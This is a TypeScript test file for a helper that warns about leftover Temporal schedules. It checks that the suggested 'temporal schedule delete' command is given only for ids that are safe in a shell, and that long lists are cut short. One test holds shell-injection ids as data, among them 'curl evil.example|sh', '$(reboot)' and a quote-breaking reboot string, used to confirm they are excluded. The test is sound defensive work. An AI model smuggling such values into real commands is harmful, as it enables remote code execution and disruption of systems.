import type { Client } from '@temporalio/client';
import { leftSchedules } from '../../src/client/agents/left-schedules';

/** A namespace with schedules of these ids, each of which runs an agent. */
const namespaceWith = (ids: string[]) =>
  ({
    options: { namespace: 'default' },
    workflowService: {
      listSchedules: () =>
        Promise.resolve({
          schedules: ids.map((scheduleId) => ({ scheduleId, info: { workflowType: { name: 'scheduled-run' } } })),
          nextPageToken: new Uint8Array(),
        }),
    },
  }) as unknown as Client;

test('a command is given only for schedules whose ids mean nothing to a shell, since anybody in the namespace may choose an id', async () => {
  const ids = ['desk/nightly', 'desk/x; curl evil.example|sh', 'desk/$(reboot)', "desk/'; reboot #", 'other/nightly'];
  const [warning] = await leftSchedules(namespaceWith(ids), 'desk');
  expect(warning).toMatch(
    /unless they are meant to: `temporal schedule delete --schedule-id 'desk\/nightly'`, 3 of them in Temporal Web UI\.$/,
  );
});

test('a few are named, however many there are', async () => {
  const many = Array.from({ length: 10_000 }, (_, number) => `desk/s${String(number)}`);
  const [warning = ''] = await leftSchedules(namespaceWith(many), 'desk');
  expect(warning.length).toBeLessThan(800);
  expect(warning).toContain('9995 of them in Temporal Web UI');
});
